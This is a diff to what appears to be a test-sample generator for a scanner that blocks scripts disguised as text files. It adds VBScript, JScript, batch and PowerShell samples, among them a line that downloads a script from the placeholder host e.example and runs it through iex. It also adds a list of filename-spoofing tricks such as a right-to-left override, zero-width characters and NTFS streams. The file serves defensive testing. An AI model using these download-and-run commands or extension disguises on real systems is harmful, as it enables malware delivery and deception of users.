@@ -95,6 +95,13 @@ def scripts():
                       "Set shell = Nothing\r\n",
         "visual-error.txt": "On Error Resume Next\r\nMsgBox \"a\"\r\n",
         "jscript.txt": "var s = new ActiveXObject('WScript.Shell');\r\ns.Run('calc');\r\nvar t = 1;\r\n",
+        "visual-two.txt": "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\n",
+        "visual-short.txt": "s = \"calc\"\r\nx = CreateObject(\"WScript.Shell\").Run(s)\r\n",
+        "jscript-two.txt": "s = new ActiveXObject('WScript.Shell');\r\ns.Run('calc');\r\n",
+        "jscript-one.txt": "new ActiveXObject('WScript.Shell').Run('calc')\r\n",
+        "batch-two.txt": "cmd /c copy a.dat a.exe\r\na.exe\r\n",
+        "batch-one.txt": "start /b powershell -nop -c iex(a)\r\n",
+        "shell-two.txt": "$c = New-Object Net.WebClient\r\n$c.DownloadString('http://e.example/a') | iex\r\n",
         "shellone.txt": "powershell -nop -w hidden -enc SQBFAFgA\r\n",
         "wsf.txt": "<job id=\"a\"><script language=\"VBScript\">MsgBox 1</script></job>",
         "wsf-xml.txt": "<?xml version=\"1.0\"?>\n<package><job/></package>",
@@ -106,10 +113,28 @@ def scripts():
     for name, text in texts.items():
         yield blocked(name, text.encode("cp932"), EXECUTABLE, "a script called a text")
     yield blocked("wide.txt", b"\xff\xfe" + utf16("@echo off\r\ncalc\r\n"), EXECUTABLE, "a script in UTF-16")
+    for note, name in (("full-width letters", "請求書.ｅｘｅ"), ("and a full-width dot", "請求書．ＥＸＥ"),
+                       ("mathematical letters", "請求書.𝐞𝐱𝐞"), ("letters in circles", "請求書.ⓔⓧⓔ"),
+                       ("an override of the direction", "請求書\u202excod.exe"),
+                       ("a zero-width character", "請求書.e\u200bxe"), ("dots and blanks", "請求書.exe . ."),
+                       ("the long s", "請求書.v\u0062\u017f"), ("a stream", "請求書.exe::$DATA")):
+        yield blocked(name, TEXT, EXECUTABLE, "run by its name: " + note)
     yield blocked("run.bat", b"echo hello\r\n", EXECUTABLE, "a batch script by its name")
     yield blocked("run.cmd", TEXT, EXECUTABLE, "a batch script by its name alone")
     for extension in ("ps1", "vbs", "js", "wsf", "hta", "jar", "com", "scr", "msi", "cpl", "py", "xll"):
         yield blocked(f"text.{extension}", TEXT, EXECUTABLE, "text, but run by its name")
+
+
+def prose():
+    """What speaks of code, and is text."""
+    texts = {
+        "mail-about.txt": "情報セキュリティ担当者各位\r\nVBScript の CreateObject(\"WScript.Shell\") を使う攻撃が増えています。\r\n"
+                          "不審な添付は開かないでください。\r\n",
+        "settings.txt": "start = 1\r\nend = 2\r\n# see the document.\r\nname = window\r\n",
+        "wide：name.txt": "全角のコロンを含む名前\r\n",
+    }
+    for name, text in texts.items():
+        yield Sample(name, text.encode("cp932"), verdict="unchanged", note="text that speaks of code, or looks odd")
 
 
 def forbidden():
@@ -225,6 +250,7 @@ def disguises():
 def samples():
     yield from executables()
     yield from scripts()
+    yield from prose()
     yield from forbidden()
     yield from polyglots()
     yield from unsupported()
